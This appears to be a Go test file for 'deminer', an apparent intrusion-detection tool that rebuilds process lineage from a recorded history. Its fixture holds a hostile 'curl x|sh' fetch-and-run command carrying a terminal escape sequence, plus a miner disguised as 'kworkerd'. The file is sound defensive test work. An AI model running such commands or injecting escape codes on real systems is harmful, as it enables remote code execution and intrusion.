package main

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/scan"
)

// TestPast: what a scan asks of the history is answered from it, though the parents have ended.
func TestPast(t *testing.T) {
	state := past(t)
	dir, err := os.OpenRoot(filepath.Join(state, historyDir))
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	var p scan.Past = (&before{dir: dir}).past()
	up := p.Lineage(deminer.ProcID{PID: 802, Start: 802})
	if len(up) != 4 || up[0].Exe != "/tmp/.x/kworkerd" || up[1].Line != "/bin/sh -c curl x|sh\x1b]0;owned\a" || up[2].Way != "web server" || up[3].Proc.PID != 1 {
		t.Errorf("%+v", up)
	}
	if id, _ := p.Writer("/etc/passwd"); id.PID != 0 {
		t.Errorf("nobody wrote it: %v", id)
	}
}

// TestPastUnreadable: a history that is damaged or that cannot be opened is told as a gap; none is none.
func TestPastUnreadable(t *testing.T) {
	state := past(t)
	ask := func() []deminer.Gap {
		b := openPast(&flags{root: "/", state: state})
		defer b.close()
		if p := b.past(); p != nil {
			p.Lineage(deminer.ProcID{PID: 802, Start: 802})
			p.Writer("/etc/passwd")
		}
		return b.gaps()
	}
	if got := ask(); len(got) != 0 {
		t.Errorf("a good one: %v", got)
	}
	dir := filepath.Join(state, historyDir)
	list, err := os.ReadDir(dir)
	must(t, err)
	for _, e := range list {
		name := filepath.Join(dir, e.Name())
		text, err := os.ReadFile(name)
		must(t, err)
		for i := range text {
			text[i] ^= 0xff
		}
		must(t, os.WriteFile(name, text, 0o600))
	}
	if got := ask(); len(got) != 1 || got[0].State != deminer.Partial || got[0].Part != "history" {
		t.Errorf("a damaged one: %v", got)
	}
	must(t, os.RemoveAll(dir))
	if got := ask(); len(got) != 0 {
		t.Errorf("none: %v", got)
	}
	must(t, os.WriteFile(dir, nil, 0o600))
	if got := ask(); len(got) != 1 || got[0].State != deminer.Failed {
		t.Errorf("no directory: %v", got)
	}
}
